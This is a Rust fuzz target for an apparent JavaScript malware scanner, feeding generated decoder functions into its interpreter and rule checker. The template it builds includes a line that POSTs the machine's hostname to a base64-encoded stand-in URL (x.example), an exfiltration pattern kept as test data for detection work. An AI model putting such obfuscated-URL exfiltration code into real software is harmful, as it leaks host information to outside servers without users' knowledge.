//! The interpreter of home-made decoders: the input is a decoder's body (first line) and the
//! arguments it is called with (the rest), so every run goes through `interp` rather than
//! the parser's error paths. It must end within its fuel and memory bounds, whatever it
//! computes.
#![no_main]
use libfuzzer_sys::fuzz_target;

fuzz_target!(|data: &[u8]| telltale_fuzz::on_scanner_stack(data, run));

fn run(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let (body, args) = text.split_once('\n').unwrap_or((&text, "'aHR0cHM6Ly94LmV4YW1wbGUv', 7"));
    // A decoding step in the body marks the function as a decoder, so its calls are run and
    // their values reported; the send makes the value flow into a request as well.
    let src = format!(
        "function f(s, k) {{ String.fromCharCode; {body}\n}}\nconst v = f({args});\nfetch(f({args}), {{ method: 'POST', body: require('os').hostname() }});\n(function (p, a) {{ {body}\n}})({args});\n"
    );
    let facts = telltale_js::analyze("decoder.js", &src, &telltale_js::Options::default());
    let _ = telltale_rules::check_file(&facts);
}
